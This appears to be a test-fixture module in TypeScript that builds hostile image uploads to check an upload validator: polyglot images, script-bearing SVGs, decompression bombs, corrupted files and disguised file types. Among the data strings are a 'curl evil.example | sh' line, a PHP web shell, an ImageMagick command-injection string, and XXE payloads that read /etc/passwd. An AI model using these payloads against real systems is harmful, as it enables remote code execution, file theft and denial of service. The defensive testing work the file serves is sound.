import { deflateSync, gzipSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import {
  mark,
  chunk,
  exif,
  fourCorners,
  hollowPng,
  jpegExif,
  resized,
  withChunks,
  withSegment,
  header,
  pngSignature,
} from './crafted-pictures.ts'

export interface HostileFile {
  name: string
  bytes: Buffer
  fate: Fate
  /** Which mark it has for "this side up", where it has one. */
  orientation?: number
}

type Named = [name: string, bytes: Buffer | string]
const all = (fate: Fate, files: Named[]): HostileFile[] =>
  files.map(([name, bytes]) => ({ name, fate, bytes: Buffer.from(bytes as string, 'latin1') }))

/** Whole pictures with something to them: noise does not shrink, so that a cut goes through the middle of it. */
const noise = (width: number, height: number, channels: 3 | 4 = 3) => {
  const data = Buffer.alloc(width * height * channels)
  let state = 12_345
  for (let n = 0; n < data.length; n++) {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff
    data[n] = state >> 16
  }
  return sharp(data, { raw: { width, height, channels } })
}

const script = `<script>alert('${mark}')</script>`
const page = `<!doctype html><html><body>${script}</body></html>`
const drawing = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" ${more}>${inside}</svg>`

const strangers: Record<string, string> = {
  page,
  php: `<?php echo '${mark}'; ?>`,
  script: `;alert('${mark}')//`,
  drawing: drawing(script),
  zip: `PK\x03\x04${mark}PK\x05\x06${'\0'.repeat(18)}`,
  pdf: `%PDF-1.7 ${mark} %%EOF`,
  exe: `MZ\x90\0${mark}`,
  film: `\0\0\0\x18ftypisom${mark}`,
}

/** Pictures that are something else besides, and pictures that tell more than they show. */
async function doubleFaced(): Promise<HostileFile[]> {
  const jpeg = await fourCorners().jpeg({ quality: 95, chromaSubsampling: '4:4:4' }).toBuffer()
  const png = await fourCorners().png().toBuffer()
  const files: Named[] = []
  for (const [name, hidden] of Object.entries(strangers)) {
    const bytes = Buffer.from(hidden, 'latin1')
    files.push([`a JPEG with a ${name} behind it`, Buffer.concat([jpeg, bytes])])
    files.push([`a PNG with a ${name} behind it`, Buffer.concat([png, bytes])])
    files.push([`a JPEG with a ${name} as comment`, withSegment(jpeg, 0xfe, bytes)])
    files.push([`a PNG with a ${name} as text`, withChunks(png, chunk('tEXt', `Comment\0${hidden}`))])
    files.push([
      `a PNG with a packed ${name}`,
      withChunks(png, chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(bytes)]))),
    ])
    files.push([`a PNG with a ${name} in a chunk of its own`, withChunks(png, chunk('evIl', hidden))])
  }
  for (let n = 1; n < 16; n++)
    if (n !== 14) files.push([`a JPEG with application data ${n}`, withSegment(jpeg, 0xe0 + n, `${mark}\0${script}`)])
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/">${mark}</x:xmpmeta>`
  const maker = mark
  files.push(
    ['a JPEG that says where it was taken', jpegExif(jpeg, { maker })],
    ['a PNG that says where it was taken', withChunks(png, chunk('eXIf', exif({ maker })))],
    ['a JPEG with XMP', withSegment(jpeg, 0xe1, `http://ns.adobe.com/xap/1.0/\0${xmp}`)],
    ['a PNG with XMP', withChunks(png, chunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${xmp}`))],
    ['a JPEG with a colour profile', await fourCorners().withIccProfile('p3').jpeg().toBuffer()],
    ['a PNG with a colour profile', await fourCorners().withIccProfile('p3').png().toBuffer()],
    [
      'a JPEG with press data',
      withSegment(jpeg, 0xed, `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20\x1c\x02\x05\0\x11${mark}`),
    ],
    ['a JPEG with a broken profile', withSegment(jpeg, 0xe2, `ICC_PROFILE\0\x01\x01${mark}`)],
    ['a JPEG with broken metadata', withSegment(jpeg, 0xe1, `Exif\0\0II*\0\xff\xff\xff\xff${mark}`)],
    [
      'a JPEG with metadata that bites its tail',
      withSegment(jpeg, 0xe1, 'Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\xff\xff\xff\xff\x08\0\0\0\x08\0\0\0'),
    ],
    ['a PNG with a changed palette order', withChunks(png, chunk('gAMA', '\0\0\0\x01'))],
  )
  const turned = [1, 2, 3, 4, 5, 6, 7, 8].flatMap((orientation): HostileFile[] => [
    {
      name: `a JPEG on side ${orientation}`,
      fate: 'stored',
      orientation,
      bytes: jpegExif(jpeg, { orientation, maker }),
    },
    {
      name: `a PNG on side ${orientation}`,
      fate: 'stored',
      orientation,
      bytes: withChunks(png, chunk('eXIf', exif({ orientation, maker }))),
    },
  ])
  const odd = [0, 9, 65_535].map((orientation): HostileFile => ({
    name: `a JPEG on side ${orientation}, which there is not`,
    fate: 'stored',
    orientation: 1,
    bytes: jpegExif(jpeg, { orientation, maker }),
  }))
  const upright = all('stored', files).map((file) => ({ ...file, orientation: 1 }))
  const before = Object.entries(strangers).map(([name, hidden]): Named => [
    `a JPEG behind a ${name}`,
    Buffer.concat([Buffer.from(hidden, 'latin1'), jpeg]),
  ])
  return [...upright, ...turned, ...odd, ...all('refused', before)]
}

/** Small files that unfold. */
async function bombs(): Promise<HostileFile[]> {
  const jpeg = await fourCorners().jpeg().toBuffer()
  const progressive = await fourCorners().jpeg({ progressive: true }).toBuffer()
  const png = await fourCorners().png().toBuffer()
  const zeros = deflateSync(Buffer.alloc(60_000_000), { level: 9 })
  const packed = (name: string) => Buffer.concat([Buffer.from(`${name}\0\0`), zeros])
  const huge = { width: 50_000, height: 50_000 }
  const frame = (n: number) => chunk('fcTL', Buffer.concat([Buffer.from([0, 0, 0, n]), Buffer.alloc(22)]))
  return [
    ...all('refused', [
      ['a PNG of 50,000 x 50,000', hollowPng(huge)],
      ['a PNG of 50,000 x 50,000 with 60 MB of it', hollowPng(huge, 60_000_000)],
      ['an interlaced PNG of 50,000 x 50,000', hollowPng({ ...huge, interlaced: true })],
      [
        'an interlaced PNG of 7,000 x 7,000 at its deepest',
        hollowPng({ width: 7000, height: 7000, bits: 16, colour: 6, interlaced: true }),
      ],
      ['a grey PNG of 50,000 x 50,000, one bit each', hollowPng({ ...huge, bits: 1, colour: 0 })],
      ['a PNG as wide as can be', hollowPng({ width: 2 ** 31 - 1, height: 1 })],
      ['a PNG as high as can be', hollowPng({ width: 1, height: 2 ** 31 - 1 })],
      ['a PNG beyond what can be', hollowPng({ width: 2 ** 32 - 1, height: 2 ** 32 - 1 })],
      ['a PNG without width', hollowPng({ width: 0, height: 10 })],
      ['a PNG without height', hollowPng({ width: 10, height: 0 })],
      ['a PNG of 9 bits', hollowPng({ width: 10, height: 10, bits: 9 })],
      ['a PNG of colour 7', hollowPng({ width: 10, height: 10, colour: 7 })],
      ['a PNG with a palette that is missing', hollowPng({ width: 10, height: 10, colour: 3 })],
      ['a PNG of 5,000 x 5,000 without most of its pixels', hollowPng({ width: 5000, height: 5000 })],
      ['a JPEG of 65,500 x 65,500', resized(jpeg, 65_500, 65_500)],
      ['a JPEG of 65,500 x 1,000', resized(jpeg, 65_500, 1000)],
      ['a progressive JPEG of 65,500 x 65,500', resized(progressive, 65_500, 65_500)],
      ['a progressive JPEG of 7,500 x 7,500', resized(progressive, 7500, 7500)],
      ['a JPEG without height', resized(jpeg, 10, 0)],
      ['a JPEG without width', resized(jpeg, 0, 10)],
      ['a film of PNGs', withChunks(png, chunk('acTL', '\0\0\0\x02\0\0\0\0'), frame(0), frame(1))],
    ]),
    ...all('stored', [
      ['a PNG with 60 MB of packed text', withChunks(png, chunk('zTXt', packed('Comment')))],
      [
        'a PNG with 60 MB of packed words',
        withChunks(png, chunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0\0\0'), zeros]))),
      ],
      ['a PNG with 60 MB of packed profile', withChunks(png, chunk('iCCP', packed('profile')))],
      [
        'a PNG with 200 packed texts',
        withChunks(png, ...Array.from({ length: 200 }, (_, n) => chunk('zTXt', packed(`c${n}`)))),
      ],
    ]),
    ...all('either', [
      [
        'a PNG with 20,000 chunks',
        withChunks(png, ...Array.from({ length: 20_000 }, () => chunk('tEXt', `a\0${mark}`))),
      ],
      ['a PNG with more pixels than it says', hollowPng({ width: 10, height: 10 }, 30_000_000)],
      [
        'a JPEG with 1,000 comments',
        Array.from({ length: 1000 }).reduce<Buffer>((made) => withSegment(made, 0xfe, mark), jpeg),
      ],
      ['a JPEG larger than it is', resized(jpeg, 400, 400)],
      ['a JPEG smaller than it is', resized(jpeg, 8, 8)],
      ['a JPEG of endless scans', endlessScans(progressive)],
    ]),
  ]
}

/** The last scan of a progressive picture, 500 times: each makes a reader go over all pixels again. */
function endlessScans(progressive: Buffer): Buffer {
  const last = progressive.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = progressive.subarray(last, -2)
  return Buffer.concat([progressive.subarray(0, last), ...Array<Buffer>(500).fill(scan), progressive.subarray(-2)])
}

/** Cut off at many places, and with bytes changed that should not be. */
async function damaged(): Promise<HostileFile[]> {
  const pictures = {
    JPEG: await noise(90, 60).jpeg().toBuffer(),
    'progressive JPEG': await noise(90, 60).jpeg({ progressive: true }).toBuffer(),
    PNG: await noise(90, 60, 4).png().toBuffer(),
  }
  const files: HostileFile[] = []
  let state = 1
  for (const [name, bytes] of Object.entries(pictures)) {
    for (let n = 0; n < 25; n++) {
      const at = Math.floor((bytes.length * n) / 25)
      // What is missing at the end of a progressive picture is only its last polish.
      const fate = name === 'progressive JPEG' && n > 3 ? 'either' : 'refused'
      files.push({ name: `a ${name} cut off at ${at}`, fate, bytes: bytes.subarray(0, at) })
    }
    for (let n = 0; n < 25; n++) {
      const changed = Buffer.from(bytes)
      for (let times = 0; times < 1 + (n % 5); times++) {
        state = (state * 48_271) % 2_147_483_647
        changed[state % changed.length] = (state >> 8) & 255
      }
      files.push({ name: `a ${name} with damage ${n}`, fate: 'either', bytes: changed })
    }
  }
  return files
}

/** What scanners, printers and old phones make, and should be taken. */
async function unusual(): Promise<HostileFile[]> {
  const made: [string, Sharp][] = [
    ['a JPEG for print', noise(60, 30).toColourspace('cmyk').jpeg()],
    ['a grey JPEG', noise(60, 30).greyscale().jpeg()],
    ['a progressive JPEG', noise(60, 30).jpeg({ progressive: true })],
    ['a JPEG in full colour', noise(60, 30).jpeg({ chromaSubsampling: '4:4:4' })],
    ['a PNG of 16 bits', noise(60, 30).toColourspace('rgb16').png()],
    ['a grey PNG of 16 bits', noise(60, 30).toColourspace('grey16').png()],
    ['a PNG with a palette', noise(60, 30).png({ palette: true })],
    ['a PNG with two colours', noise(60, 30).threshold(128).png({ palette: true, colours: 2 })],
    ['a transparent PNG', noise(60, 30, 4).png()],
    ['a grey transparent PNG', noise(60, 30, 4).greyscale().png()],
    ['an interlaced PNG', noise(60, 30).png({ progressive: true })],
    ['a transparent PNG of 16 bits', noise(60, 30, 4).toColourspace('rgb16').png()],
    ['one pixel', noise(1, 1).png()],
    ['a strip', noise(3, 9000).png()],
    ['a beam', noise(9000, 3).jpeg()],
    ['a large photo', sharp({ create: { width: 8000, height: 6000, channels: 3, background: 'teal' } }).jpeg()],
  ]
  return Promise.all(made.map(async ([name, picture]) => ({ name, fate: 'stored', bytes: await picture.toBuffer() })))
}

export async function hostileFiles(): Promise<Record<string, HostileFile[]>> {
  return {
    'files of other kinds': await wrongTypes(),
    'drawings that can run': drawings(),
    'pictures with two faces, and telling pictures': await doubleFaced(),
    'small files that unfold': await bombs(),
    'damaged pictures': await damaged(),
    'unusual pictures': await unusual(),
  }
}

/** Pictures of kinds that are not taken, and everything else that people might call `photo.jpg`. */
async function wrongTypes(): Promise<HostileFile[]> {
  const small = noise(16, 16)
  const made = await Promise.all(
    (['gif', 'webp', 'avif', 'tiff'] as const).map(async (format): Promise<Named> => [
      `a ${format}`,
      await small.clone().toFormat(format).toBuffer(),
    ]),
  )
  const brand = (name: string) => `\0\0\0\x18ftyp${name}\0\0\0\0${name}mif1${mark}`
  const begins: Record<string, string> = {
    bmp: 'BM\x36\x03\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x10\0\0\0\x10\0\0\0\x01\0\x18\0',
    ico: '\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0',
    psd: '8BPS\0\x01\0\0\0\0\0\0\0\x03',
    jp2: '\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 ',
    jxl: '\0\0\0\x0cJXL \r\n\x87\n',
    'jxl codestream': '\xff\x0a',
    pdf: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>',
    zip: 'PK\x03\x04\x14\0\0\0\0\0',
    elf: '\x7fELF\x02\x01\x01',
    exe: 'MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0',
    'mach-o': '\xcf\xfa\xed\xfe\x07\0\0\x01',
    'java class': '\xca\xfe\xba\xbe\0\0\0\x34',
    wasm: '\0asm\x01\0\0\0',
    shell: '#!/bin/sh\ncurl evil.example | sh\n',
    php: '<?php system($_GET[0]); ?>',
    rtf: '{\\rtf1\\ansi',
    'old office': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    postscript: '%!PS-Adobe-3.0 EPSF-3.0\n',
    wmf: '\xd7\xcd\xc6\x9a\0\0',
    gzip: '\x1f\x8b\x08\0\0\0\0\0',
    bzip2: 'BZh91AY&SY',
    xz: '\xfd7zXZ\0\0',
    '7z': "7z\xbc\xaf'\x1c\0\x04",
    rar: 'Rar!\x1a\x07\x01\0',
    sqlite: 'SQLite format 3\0',
    mp3: 'ID3\x04\0\0\0\0\0\0',
    ogg: 'OggS\0\x02',
    flac: 'fLaC\0\0\0\x22',
    webm: '\x1a\x45\xdf\xa3\x9fB\x86\x81\x01B\x82\x84webm',
    avi: 'RIFF\x24\0\0\0AVI LIST',
    woff2: 'wOF2\0\x01\0\0',
    dicom: `${'\0'.repeat(128)}DICM`,
    fits: 'SIMPLE  =                    T',
    hdr: '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n',
    ppm: 'P6\n2 2\n255\n',
    openexr: '\x76\x2f\x31\x01',
    'vips’ own': '\xb6\xa6\xf2\x08',
    'imagemagick script': "push graphic-context\nfill 'url(https://evil.example/\"|id)'\n",
    mng: '\x8aMNG\r\n\x1a\n',
    jng: '\x8bJNG\r\n\x1a\n',
    text: 'a photo, honestly',
    json: '{"image":"jpeg"}',
    page,
    'page behind spaces': `${' '.repeat(600)}${page}`,
    'xml with an outside entity':
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  }
  for (const name of ['heic', 'heix', 'mif1', 'avif', 'avis', 'isom', 'mp42', 'qt  ', 'crx '])
    begins[`ftyp ${name}`] = brand(name)
  return all('refused', [
    ...made,
    ...Object.entries(begins).map(([name, start]): Named => [`a ${name}`, start + mark + '\0'.repeat(200)]),
    ['nothing', ''],
    ['one byte', '\xff'],
    ['two bytes', '\xff\xd8'],
    ['zeros', Buffer.alloc(5000)],
    ['noise', await noise(40, 40).raw().toBuffer()],
  ])
}

function drawings(): HostileFile[] {
  const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('')
  const plain = drawing(script)
  return all('refused', [
    ['a drawing with a script', plain],
    ['a drawing that runs when it loads', drawing('', `onload="alert('${mark}')"`)],
    ['a drawing with a page in it', drawing(`<foreignObject>${page}</foreignObject>`)],
    ['a drawing that fetches', drawing('<image href="http://127.0.0.1:1/x.png"/>')],
    ['a drawing that reads files', drawing('<image href="file:///etc/passwd"/>')],
    ['a drawing behind an XML line', `<?xml version="1.0"?>${plain}`],
    ['a drawing behind a comment', `<!-- ${' '.repeat(3000)} -->${plain}`],
    ['a drawing behind spaces', `\n\n\t   ${plain}`],
    ['a drawing behind a byte order mark', `\xef\xbb\xbf${plain}`],
    ['a drawing in wide characters', Buffer.from(`\ufeff${plain}`, 'utf16le')],
    ['a packed drawing', gzipSync(plain)],
    ['a drawing of a billion laughs', `<!DOCTYPE svg [<!ENTITY a0 "${mark}">${entities}]>${drawing('&a9;')}`],
    ['an endless drawing', drawing('', 'viewBox="0 0 1000000 1000000"').replaceAll('"10"', '"1000000"')],
    ['a drawing behind the first bytes of a JPEG', `\xff\xd8\xff\xe0${plain}`],
    ['a drawing behind the first bytes of a PNG', Buffer.concat([pngSignature, Buffer.from(plain)])],
    ['a page behind the first bytes of a JPEG', `\xff\xd8\xff\xe1${page}`],
    ['a page behind the first bytes of a PNG', Buffer.concat([pngSignature, Buffer.from(page)])],
    ['a page behind a PNG’s header', Buffer.concat([pngSignature, header({ width: 5, height: 5 }), Buffer.from(page)])],
  ])
}

/** Refused, stored as a clean picture, or one of the two. */
type Fate = 'refused' | 'stored' | 'either'
